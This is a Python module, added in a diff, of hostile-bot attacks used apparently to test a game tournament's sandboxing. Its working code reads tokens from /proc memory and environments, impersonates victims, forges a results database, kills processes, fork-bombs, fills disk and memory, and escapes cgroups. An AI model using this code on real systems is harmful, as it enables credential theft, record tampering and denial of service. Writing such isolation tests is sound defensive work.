@@ -1,0 +1,475 @@
+"""The attacks of a hostile entrant, run from inside its bot process while it plays.
+
+Each reports what it achieved as one line on stdout, ``ATTACK {json}`` (the
+tournament keeps a launched bot's output in ``logs/NAME.log``): the test reads
+those facts, and checks the victim's results and the machine independently.
+Attacks that look at or signal other processes keep to the tournament's own
+process tree (procfs.py says why).
+"""
+
+from __future__ import annotations
+
+import errno
+import json
+import os
+import re
+import signal
+import socket
+import sqlite3
+import sys
+import threading
+import time
+import tomllib
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import grpc
+import procfs
+
+from referee.bot import PROTOCOL_VERSION, BotSession
+from referee.v1 import referee_pb2 as pb
+from referee.v1 import referee_pb2_grpc as pb_grpc
+
+HEX_TOKEN = re.compile(rb"(?<![0-9a-fA-F])[0-9a-f]{32}(?![0-9a-fA-F])")  # secrets.token_hex(16)
+SEED = re.compile(r"^\s*seed\s*=\s*(\d+)", re.MULTILINE)
+SECRET_KEY = re.compile(r"TOKEN|SECRET|PASSWORD|KEY", re.IGNORECASE)
+
+
+def report(attack: str, **facts) -> None:
+    print("ATTACK " + json.dumps({"attack": attack, **facts}, sort_keys=True, default=str), flush=True)
+
+
+@dataclass
+class Context:
+    """What the attacker knows: the referee's address (as given to it), the names it
+    wants to impersonate or kill, paths a reader of the docs would guess, and knobs."""
+
+    address: str
+    victims: list[str]
+    hints: list[str] = field(default_factory=list)
+    canary_port: int = 0
+    listen_port: int = 0
+    mark: str = ""
+    forks: int = 10_000
+    write_mb: int = 1024
+    children: int = 4
+    child_mb: int = 600
+    write_dirs: list[str] = field(default_factory=list)
+
+
+# --- secrets: command lines, environments, memory ----------------------------------
+
+
+def gather_secrets() -> tuple[list[dict], dict[str, str]]:
+    """Whatever looks like a secret in the tournament's processes and this one's own
+    environment: (findings to report, {candidate token: where it was found})."""
+    findings: list[dict] = []
+    candidates: dict[str, str] = {}
+
+    def found(value: str, where: str, **what) -> None:
+        candidates.setdefault(value, where)
+        findings.append({"where": where, "value": value, **what})
+
+    for key, value in procfs.environ("self").items():
+        if SECRET_KEY.search(key):
+            found(value, "own environ", key=key)
+    tree = procfs.tournament_tree()
+    for pid in tree:
+        args = procfs.argv(pid)
+        for flag, value in zip(args, args[1:]):
+            if flag == "--token":
+                found(value, f"/proc/{pid}/cmdline")
+        for arg in args:
+            for m in HEX_TOKEN.finditer(arg.encode()):
+                found(m.group().decode(), f"/proc/{pid}/cmdline")
+        for key, value in procfs.environ(pid).items():
+            if SECRET_KEY.search(key) or HEX_TOKEN.search(value.encode()):
+                found(value, f"/proc/{pid}/environ", key=key)
+    memory_read = {}
+    for pid in tree:
+        size = 0
+        for chunk in procfs.memory(pid):
+            size += len(chunk)
+            for m in HEX_TOKEN.finditer(chunk):
+                candidates.setdefault(m.group().decode(), f"/proc/{pid}/mem")
+        if size:
+            memory_read[pid] = size
+    findings += [{"where": f"/proc/{pid}/mem", "bytes": n} for pid, n in memory_read.items()]
+    return findings, candidates
+
+
+def probe(channel: grpc.Channel, name: str, token: str) -> bool:
+    """Whether the referee accepts a session under ``name`` with ``token`` (closed at once)."""
+    hello = pb.BotMessage(hello=pb.Hello(protocol_version=PROTOCOL_VERSION, bot_name=name, token=token, capacity=1))
+    call = pb_grpc.RefereeStub(channel).Play(iter([hello]), timeout=5)
+    try:
+        first = next(call)
+    except (grpc.RpcError, StopIteration):
+        return False
+    finally:
+        call.cancel()
+    return first.WhichOneof("kind") != "refusal"
+
+
+def verified(ctx: Context, candidates: dict[str, str], limit: int = 400) -> list[dict]:
+    """The candidates the referee accepts under a victim's name: stolen tokens."""
+    accepted = []
+    with grpc.insecure_channel(ctx.address) as channel:
+        for name in ctx.victims:
+            for token, where in list(candidates.items())[:limit]:
+                if probe(channel, name, token):
+                    accepted.append({"name": name, "token": token, "where": where})
+                    break
+    return accepted
+
+
+def attack_tokens(ctx: Context) -> None:
+    """Read every command line, environment and memory of the tournament for tokens
+    (and the admin token), and check each find with the referee."""
+    findings, candidates = gather_secrets()
+    report("tokens", findings=findings, candidates=len(candidates),
+           accepted=verified(ctx, candidates), own_environ=sorted(procfs.environ("self")))
+
+
+def throw(observation, legal, game):
+    """Play a victim's seat to lose: the last legal action."""
+    return len(legal) - 1
+
+
+def attack_steal(ctx: Context) -> None:
+    """Open sessions under the victims' names with guessed and stolen tokens, and
+    throw the games of every seat they are given."""
+    _, stolen = gather_secrets()
+    guesses = {g: "guess" for name in ctx.victims for g in ("", name, name * 2, "secret", "token", "password",
+                                                            "0" * 32, "f" * 32, "s3cret")}
+    accepted = verified(ctx, {**guesses, **stolen})
+    for one in accepted:
+        threading.Thread(target=play_as, args=(ctx.address, one["name"], one["token"]), daemon=True).start()
+    report("steal", tried=len(guesses) + len(stolen), accepted=accepted)
+
+
+def play_as(address: str, name: str, token: str) -> None:
+    while True:
+        try:
+            BotSession(throw, address, name, token, capacity=8).run()
+        except grpc.RpcError:
+            pass
+        time.sleep(0.2)
+
+
+# --- the results store and the tournament file ------------------------------------
+
+
+def guess_paths(ctx: Context) -> tuple[set[str], set[str]]:
+    """(store files, tournament files) to try: from the runner's working directory and
+    command line, every descriptor the tournament's processes hold open, and the hints."""
+    stores, files, dirs = set(), set(), set()
+    root = procfs.tournament_root()
+    root_cwd = procfs.link(f"/proc/{root}/cwd") or "."
+    for pid in [root, *procfs.tournament_tree()]:
+        cwd = procfs.link(f"/proc/{pid}/cwd")
+        if cwd:
+            dirs |= {cwd, os.path.join(cwd, "out")}
+        for arg in procfs.argv(pid):
+            if arg.endswith(".toml"):
+                files.add(os.path.join(root_cwd, arg))
+        for fd, target in procfs.open_files(pid):
+            if target.endswith(".sqlite"):
+                stores |= {target, fd}
+            elif target.endswith(".toml"):
+                files |= {target, fd}
+    for hint in ctx.hints:
+        (files if hint.endswith(".toml") else stores if hint.endswith(".sqlite") else dirs).add(hint)
+    for path in list(files):
+        try:
+            output = tomllib.loads(Path(path).read_text()).get("tournament", {}).get("output", "out")
+            dirs.add(os.path.join(os.path.dirname(path), output))
+        except (OSError, ValueError):
+            pass
+    stores |= {os.path.join(d, "results.sqlite") for d in dirs}
+    return stores, files
+
+
+def forge(path: str, victims: list[str]) -> int:
+    """Rewrite every finished match of the victims as lost; the rows changed."""
+    db = sqlite3.connect(path, timeout=2)
+    try:
+        with db:
+            changed = 0
+            for name in victims:
+                changed += db.execute("UPDATE seats SET score = -99, place = 9 WHERE bot = ?", (name,)).rowcount
+                changed += db.execute("UPDATE matches SET results = json_set(results, '$.scores[0]', -99, "
+                                      "'$.scores[1]', -99) WHERE lineup LIKE ?", (f'%"{name}"%',)).rowcount
+            return changed
+    finally:
+        db.close()
+
+
+def try_store(path: str, victims: list[str]) -> dict[str, object]:
+    """What could be done to one store path: read its bytes, query it, forge it."""
+    got: dict[str, object] = {}
+    try:
+        with open(path, "rb") as f:
+            got["read"] = f.read(16).startswith(b"SQLite format 3")
+    except OSError as err:
+        got["read_error"] = err.strerror
+    if path.startswith("/proc/"):  # a descriptor of another process: its bytes only
+        return got
+    try:
+        db = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=2)
+        try:
+            got["matches"] = db.execute("SELECT count(*) FROM matches").fetchone()[0]
+        finally:
+            db.close()
+        got["forged"] = forge(path, victims)
+    except sqlite3.Error as err:
+        got["sqlite_error"] = str(err)
+    return got
+
+
+def attack_files(ctx: Context, period: float = 0.5) -> None:
+    """Find the output directory and the tournament file; read the seed, read the
+    results, rewrite them; again and again while the tournament runs."""
+    told: set[str] = set()
+    while True:
+        stores, files = guess_paths(ctx)
+        results = {path: try_store(path, ctx.victims) for path in sorted(stores)}
+        seeds = {}
+        for path in sorted(files):
+            try:
+                text = Path(path).read_text()
+            except OSError as err:
+                seeds[path] = {"error": err.strerror}
+                continue
+            m = SEED.search(text)
+            seeds[path] = {"read": len(text), "seed": m.group(1) if m else None}
+        succeeded = sorted([f"store {p}" for p, r in results.items() if r.get("read") or "matches" in r]
+                           + [f"file {p}" for p, r in seeds.items() if "read" in r])
+        if not told or set(succeeded) - told:
+            report("files", stores=results, files=seeds, succeeded=succeeded)
+            told |= set(succeeded) | {"(first)"}
+        time.sleep(period)
+
+
+# --- other processes ------------------------------------------------------------------
+
+
+def attack_kill(ctx: Context, period: float = 0.2) -> None:
+    """kill -9 every other process of the tournament it can see (the runner spared),
+    again and again while the tournament runs."""
+    rounds = 0
+    while True:
+        targets = procfs.others()
+        outcomes = {}
+        for pid in targets:
+            args = " ".join(procfs.argv(pid))[:160]
+            try:
+                os.kill(pid, signal.SIGKILL)
+                outcomes[pid] = f"killed: {args}"
+            except OSError as err:
+                outcomes[pid] = f"{err.strerror}: {args}"
+        if rounds == 0 or targets:
+            report("kill", round=rounds, visible=len(procfs.pids()), outcomes=outcomes,
+                   killed=sum(o.startswith("killed") for o in outcomes.values()))
+        rounds += 1
+        time.sleep(period)
+
+
+# --- the network --------------------------------------------------------------------
+
+
+def listening_ports() -> set[int]:
+    """The TCP ports the tournament's processes listen on (their sockets' inodes in
+    /proc/net/tcp): the referee's, wherever it is visible. Not the machine's others."""
+    inodes = {target[len("socket:["):-1] for pid in procfs.tournament_tree()
+              for _, target in procfs.open_files(pid) if target.startswith("socket:[")}
+    ports = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            lines = Path(table).read_text().splitlines()[1:]
+        except OSError:
+            continue
+        for line in lines:
+            fields = line.split()
+            if fields[3] == "0A" and fields[9] in inodes:  # LISTEN, owned by the tournament
+                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
+    return ports
+
+
+def connect(host: str, port: int, say: bytes = b"", timeout: float = 1.0) -> str:
+    try:
+        with socket.create_connection((host, port), timeout=timeout) as s:
+            s.sendall(say)
+        return "connected"
+    except OSError as err:
+        return err.strerror or type(err).__name__
+
+
+def attack_net(ctx: Context) -> None:
+    """Listen on 0.0.0.0 (accepting whatever comes, for the whole run); connect to the
+    test's canary, to the referee's TCP port (its address, the default port, the ports the
+    tournament listens on) and to an outside address."""
+    try:
+        server = socket.create_server(("0.0.0.0", ctx.listen_port), reuse_port=False)
+        listening = f"0.0.0.0:{server.getsockname()[1]}"
+
+        def accept():
+            while True:
+                conn, peer = server.accept()
+                report("net-accept", peer=str(peer))
+                conn.close()
+        threading.Thread(target=accept, daemon=True).start()
+    except OSError as err:
+        listening = f"refused: {err.strerror}"
+    targets = {("127.0.0.1", 50051), ("192.0.2.1", 80)} | {("127.0.0.1", p) for p in listening_ports()}
+    if not ctx.address.startswith("unix:"):
+        host, port = ctx.address.rsplit(":", 1)
+        targets.add((host, int(port)))
+    outcomes = {f"{h}:{p}": connect(h, p) for h, p in sorted(targets)}
+    if ctx.canary_port:
+        outcomes[f"canary 127.0.0.1:{ctx.canary_port}"] = connect("127.0.0.1", ctx.canary_port,
+                                                                  b"hostile bot was here\n")
+    report("net", listening=listening, outcomes=outcomes,
+           connected=sorted(t for t, o in outcomes.items() if o == "connected"))
+
+
+# --- resources ------------------------------------------------------------------------
+
+
+def attack_fork(ctx: Context) -> None:
+    """Fork ``forks`` processes that all stay alive; count how many it got."""
+    report("fork-start", forks=ctx.forks)
+    hold, release = os.pipe()
+    pids, error = [], None
+    started = time.monotonic()
+    for _ in range(ctx.forks):
+        try:
+            pid = os.fork()
+        except OSError as err:
+            error = f"{errno.errorcode.get(err.errno, err.errno)}: {err.strerror}"
+            break
+        if pid == 0:
+            os.close(release)
+            os.read(hold, 1)
+            os._exit(0)
+        pids.append(pid)
+    os.close(release)
+    os.close(hold)
+    for pid in pids:
+        os.waitpid(pid, 0)
+    report("fork", forked=len(pids), error=error, seconds=round(time.monotonic() - started, 2))
+
+
+def attack_write(ctx: Context) -> None:
+    """Write ``write_mb`` MB to the first writable place it finds."""
+    chunk = b"\x5a" * (1 << 20)
+    for directory in [*ctx.write_dirs, os.environ.get("TMPDIR", ""), os.environ.get("HOME", ""), "/tmp", "."]:
+        path = os.path.join(directory, f"hostile-{os.getpid()}.bin")
+        try:
+            f = open(path, "wb")  # noqa: SIM115
+        except OSError:
+            continue
+        report("write-start", path=path, mb=ctx.write_mb)
+        written, error = 0, None
+        try:
+            with f:
+                for _ in range(ctx.write_mb):
+                    f.write(chunk)
+                    written += 1
+                f.flush()
+        except OSError as err:
+            error = f"{errno.errorcode.get(err.errno, err.errno)}: {err.strerror}"
+        finally:
+            os.unlink(path)
+        report("write", path=path, written_mb=written, error=error)
+        return
+    report("write", path=None, written_mb=0, error="nowhere to write")
+
+
+def attack_memory(ctx: Context) -> None:
+    """``children`` processes each take ``child_mb`` MB (touched) and hold it until all
+    have tried: how much was held at the same time."""
+    report("memory-start", children=ctx.children, child_mb=ctx.child_mb)
+    hold, release = os.pipe()
+    kids = []
+    for _ in range(ctx.children):
+        r, w = os.pipe()
+        pid = os.fork()
+        if pid == 0:
+            os.close(r)
+            os.close(release)
+            try:
+                block = b"\x01" * (ctx.child_mb << 20)  # noqa: F841 - held until released
+                os.write(w, b"held")
+            except MemoryError:
+                os.write(w, b"MemoryError")
+            os.read(hold, 1)
+            os._exit(0)
+        os.close(w)
+        kids.append((pid, r))
+    said = {}
+    for pid, r in kids:
+        said[pid] = os.read(r, 64).decode() or "died"
+        os.close(r)
+    # held at the same time: those that said so and are still alive now that all have tried
+    alive = {pid for pid, _ in kids if os.waitpid(pid, os.WNOHANG) == (0, 0)}
+    held = sum(ctx.child_mb for pid in alive if said[pid] == "held")
+    os.close(release)
+    os.close(hold)
+    for pid in alive:
+        os.waitpid(pid, 0)
+    report("memory", held_mb=held, outcomes=[said[pid] + ("" if pid in alive else ", then gone") for pid, _ in kids])
+
+
+# --- leaving something behind ---------------------------------------------------------
+
+
+def escape_cgroups(to_pid: int) -> list[str]:
+    """Move this process into ``to_pid``'s cgroups (v1 hierarchies) where they differ from
+    its own: out of a per-bot cgroup a sweep would search, no further up."""
+    moved = []
+    try:
+        mine = dict(line.split(":", 2)[1:] for line in Path("/proc/self/cgroup").read_text().splitlines())
+        theirs = dict(line.split(":", 2)[1:] for line in Path(f"/proc/{to_pid}/cgroup").read_text().splitlines())
+    except (OSError, ValueError):
+        return moved
+    for controllers, path in theirs.items():
+        if not controllers or controllers.startswith("name=") or mine.get(controllers) == path:
+            continue
+        target = Path("/sys/fs/cgroup") / controllers.split(",")[0] / path.lstrip("/") / "cgroup.procs"
+        try:
+            target.write_text(str(os.getpid()))
+            moved.append(f"{controllers}:{path}")
+        except OSError:
+            pass
+    return moved
+
+
+def attack_orphan(ctx: Context) -> None:
+    """A child calls setsid and forks twice; the grandchild leaves its cgroups and sleeps
+    (its command line carries the mark the test looks for)."""
+    root = procfs.tournament_root()
+    pid = os.fork()
+    if pid == 0:
+        os.setsid()
+        if os.fork() == 0:
+            if os.fork() == 0:
+                moved = escape_cgroups(root)
+                report("orphan", pid=os.getpid(), sid=os.getsid(0), escaped=moved)
+                devnull = os.open(os.devnull, os.O_RDWR)
+                for fd in (0, 1, 2):
+                    os.dup2(devnull, fd)
+                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)",
+                                          "hostile-orphan", ctx.mark])
+            os._exit(0)
+        os._exit(0)
+    os.waitpid(pid, 0)
+
+
+ATTACKS: dict[str, Callable[[Context], None]] = {
+    "tokens": attack_tokens, "steal": attack_steal, "files": attack_files, "kill": attack_kill,
+    "net": attack_net, "fork": attack_fork, "write": attack_write, "memory": attack_memory,
+    "orphan": attack_orphan,
+}
+REPEATED = {"files", "kill"}  # again and again while the tournament runs
